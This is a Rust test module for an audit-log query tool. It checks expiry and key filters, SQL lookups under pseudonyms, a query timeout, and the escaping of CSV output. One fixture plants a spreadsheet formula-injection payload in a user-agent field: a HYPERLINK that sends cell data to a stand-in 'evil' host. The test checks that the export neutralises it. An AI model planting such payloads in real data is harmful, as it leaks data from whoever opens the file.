//! What flags ask for, over rows in memory; and a query that would never end.

use std::sync::Arc;
use std::time::Duration;

use clap::Parser as _;
use futures_util::StreamExt as _;

use super::ask::Ended;
use super::scan::LogTable;
use super::{Eyes, bounded, engine, plan};
use crate::archive::Row;
use crate::auditor::args::{Cli, Command, Query};
use crate::ledger::{Entry, Handed, Pseudonyms, run_words, samples, session_hash};
use crate::types::{Action, Secret, Timestamp};

fn query(flags: &[&str]) -> Query {
    let words = [
        "kluis-audit",
        "query",
        "--project",
        "icu",
        "--auditor",
        "tess",
    ];
    let cli = Cli::try_parse_from([&words[..], flags].concat()).unwrap();
    let Command::Query(query) = cli.command else {
        panic!("a query");
    };
    *query
}

/// A request of `who` on `dataset`, begun at `ms`.
fn row(n: u8, who: &str, dataset: &str, ms: u64) -> Row {
    let mut session = samples::session();
    session.principal = Some(who.parse().unwrap());
    session.responsible = None;
    let mut intent = samples::intent(samples::event(n));
    intent.time = Timestamp::from_millis(ms);
    intent.object.project = Some("icu".parse().unwrap());
    intent.object.dataset = Some(dataset.parse().unwrap());
    intent.source_object = None;
    let entry = Entry::Whole {
        session: session_hash(&session).unwrap(),
        intent,
        completion: samples::completion(samples::event(n)),
    };
    Row {
        seq: u64::from(n),
        entry,
        session: Some(Arc::new(session)),
        end: None,
    }
}

/// Who sees the records of `icu`, with names.
fn eyes() -> Eyes {
    Eyes {
        seen: Some("icu".parse().unwrap()),
        hidden: None,
    }
}

async fn count(rows: &[Row], ended: &[Ended], flags: &[&str]) -> usize {
    let batch = crate::archive::batch("gw-1", rows).unwrap();
    let table = LogTable::of(eyes(), vec![batch]);
    let context = engine(table).unwrap();
    let ask = query(flags);
    let frame = ask.filters.frame(&context, ended, ask.limit).await.unwrap();
    let batches = frame.collect().await.unwrap();
    batches.iter().map(arrow_array::RecordBatch::num_rows).sum()
}

#[tokio::test]
async fn after_expiry_is_what_was_asked_when_a_right_had_ended() {
    let rows = [
        row(1, "ana", "ecg", 1_000),
        row(2, "ana", "ecg", 2_000),
        row(3, "ana", "ecg", 3_000),
        row(4, "ana", "mri", 3_000),
        row(5, "bob", "ecg", 3_000),
    ];
    let ended = |who: &str, dataset: Option<&str>, at| Ended {
        principal: who.parse().unwrap(),
        dataset: dataset.map(|name| name.parse().unwrap()),
        at: Timestamp::from_millis(at),
    };
    let after = ["--after-expiry"];
    assert_eq!(count(&rows, &[], &after).await, 0);
    // At the moment of its end a right is over.
    assert_eq!(count(&rows, &[ended("ana", None, 2_000)], &after).await, 3);
    assert_eq!(
        count(&rows, &[ended("ana", Some("ecg"), 2_000)], &after).await,
        2
    );
    assert_eq!(
        count(&rows, &[ended("ana", Some("ecg"), 3_001)], &after).await,
        0
    );
    let both = [ended("ana", Some("mri"), 0), ended("bob", None, 0)];
    assert_eq!(count(&rows, &both, &after).await, 2);
    assert_eq!(
        count(&rows, &both, &["--after-expiry", "--principal", "bob"]).await,
        1
    );
    assert_eq!(count(&rows, &both, &[]).await, 5);
}

/// A row whose record tells of the objects from `first`.
fn read(n: u8, first: &str, query: &str) -> Row {
    let mut row = row(n, "ana", "ecg", u64::from(n));
    if let Entry::Whole { intent, .. } = &mut row.entry {
        intent.object.key = Some(first.parse().unwrap());
        intent.query = Some(query.to_owned());
    }
    row
}

fn released() -> [Row; 6] {
    let long = format!("n/{}", "x".repeat(900));
    let cut: String = run_words(1, Handed::Objects, 9, &long)
        .chars()
        .take(512)
        .collect();
    let mut listed = read(6, "a", &run_words(1, Handed::Objects, 2, "z"));
    if let Entry::Whole { intent, .. } = &mut listed.entry {
        intent.action = Some(Action::ObjectList);
    }
    [
        read(1, "p01.txt", &run_words(1, Handed::Objects, 40, "p40.txt")),
        read(2, "p01.txt", &run_words(1, Handed::Packed, 3, "p03.txt")),
        read(3, "p20.txt", "version=1"),
        read(4, "é/1", &run_words(2, Handed::Objects, 2, "é/9")),
        read(5, "n/1", &cut),
        listed,
    ]
}

#[tokio::test]
async fn who_got_a_key_among_others_is_found_by_it() {
    let rows = released();
    let long = format!("n/{}zz", "x".repeat(900));
    for (flag, asked, found) in [
        ("--key", "p01.txt", 2),
        ("--key", "p02.txt", 2),
        ("--key", "p03.txt", 2),
        ("--key", "p20.txt", 2),
        ("--key", "p37.txt", 1),
        ("--key", "p40.txt", 1),
        ("--key", "é/5", 1),
        ("--key", "a", 1),
        // The record holds a part of the last key.
        ("--key", &long, 1),
        ("--key", "p00.txt", 0),
        ("--key", "p40.txt/", 0),
        ("--key", "p41.txt", 0),
        ("--key", "P20.txt", 0),
        ("--key", "q", 0),
        ("--key", "é", 0),
        ("--key", "é/90", 0),
        ("--key", "e/5", 0),
        ("--key", "n/y", 0),
        ("--key", "n/", 0),
        // A listing tells of no run.
        ("--key", "b", 0),
        ("--prefix", "p2", 2),
        ("--prefix", "p", 3),
        ("--prefix", "é/", 1),
        ("--prefix", &long, 1),
        ("--prefix", "p40.txt/", 0),
        ("--prefix", "p5", 0),
        ("--prefix", "o", 0),
        ("--prefix", "é/99", 0),
        ("--prefix", "n/y", 0),
    ] {
        assert_eq!(
            count(&rows, &[], &[flag, asked]).await,
            found,
            "{flag} {asked}"
        );
    }
    assert_eq!(
        count(&rows, &[], &["--key", "p37.txt", "--principal", "bob"]).await,
        0
    );
    assert_eq!(
        count(&rows, &[], &["--key", "p37.txt", "--dataset", "mri"]).await,
        0
    );
}

#[tokio::test]
async fn sql_asks_for_runs_by_their_last_key() {
    let batch = crate::archive::batch("gw-1", &released()).unwrap();
    let hidden = Pseudonyms::new(&Secret::take(&mut [7; 32]), "icu".parse().unwrap());
    let covered = Eyes {
        hidden: Some(Arc::new(hidden)),
        ..eyes()
    };
    // People's names are no part of it: who sees pseudonyms asks so, too.
    for eyes in [eyes(), covered] {
        let context = engine(LogTable::of(eyes, vec![batch.clone()])).unwrap();
        let ask = async |rest: &str| {
            let sql = format!("SELECT seq FROM requests WHERE {rest}");
            let frame = plan(&context, &sql).await.unwrap();
            let rows = frame.collect().await.unwrap();
            rows.iter()
                .map(arrow_array::RecordBatch::num_rows)
                .sum::<usize>()
        };
        let of = |key: &str| format!("key = '{key}' OR (key <= '{key}' AND key_last >= '{key}')");
        assert_eq!(ask(&of("p20.txt")).await, 2);
        assert_eq!(ask(&of("p37.txt")).await, 1);
        assert_eq!(ask(&of(&format!("n/{}zz", "x".repeat(900)))).await, 1);
        for none in ["p41.txt", "p00.txt", "n/y", "b", "é/90"] {
            assert_eq!(ask(&of(none)).await, 0, "{none}");
        }
        assert_eq!(ask("key_last IS NULL").await, 2);
        assert_eq!(ask("key_last = 'p40.txt'").await, 1);
    }
}

/// Who has no right at all chooses an agent, and finds it in a record of her refusal.
#[tokio::test]
async fn no_text_of_an_answer_as_csv_is_a_formula() {
    let mut rows = Vec::new();
    for (n, agent) in [
        (1, "=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
        (2, "+1"),
        (3, "\t=1"),
    ] {
        let mut row = row(n, "rosa", "ecg", 5);
        let mut session = row.session.take().unwrap().as_ref().clone();
        session.user_agent = agent.to_owned();
        row.session = Some(Arc::new(session));
        rows.push(row);
    }
    let batch = crate::archive::batch("gw-1", &rows).unwrap();
    let context = engine(LogTable::of(eyes(), vec![batch])).unwrap();
    for (sql, wanted) in [
        ("SELECT agent, bytes FROM requests ORDER BY seq", "\n'+1,"),
        ("SELECT upper(agent) AS \"=1\" FROM requests", "'=1\n"),
        (
            "SELECT DISTINCT arrow_cast(agent, 'Utf8View') AS a FROM requests",
            "'+1",
        ),
        (
            "SELECT '-' || seq AS a, -1 AS b FROM requests",
            "\n'-1,-1\n",
        ),
        (
            "SELECT arrow_cast(agent, 'Dictionary(Int32, Utf8)') AS a FROM requests",
            "'+1",
        ),
    ] {
        let frame = plan(&context, sql).await.unwrap();
        let batches = frame.collect().await.unwrap();
        let mut text = String::new();
        for (n, batch) in batches.iter().enumerate() {
            let lines = super::cells::lines(batch, n == 0).unwrap();
            text.push_str(std::str::from_utf8(&lines).unwrap());
        }
        assert!(text.contains(wanted), "{sql}: {text}");
        for line in text.lines() {
            let cell = line.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t']),
                "{sql}: {line}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_query_that_does_not_end_is_ended() {
    let endless = "SELECT count(*) FROM generate_series(1, 3000000) a, generate_series(1, 3000000) b \
                   WHERE a.value % 7 = b.value % 11";
    let asking = async {
        let context = engine(LogTable::of(Eyes::default(), Vec::new()))?;
        let mut stream = plan(&context, endless).await?.execute_stream().await?;
        let mut rows = 0;
        while let Some(batch) = stream.next().await {
            rows += batch?.num_rows();
        }
        Ok(rows)
    };
    let error = bounded(Duration::from_millis(300), asking)
        .await
        .unwrap_err();
    assert!(
        error.message().contains("took too long"),
        "{}",
        error.message()
    );
}
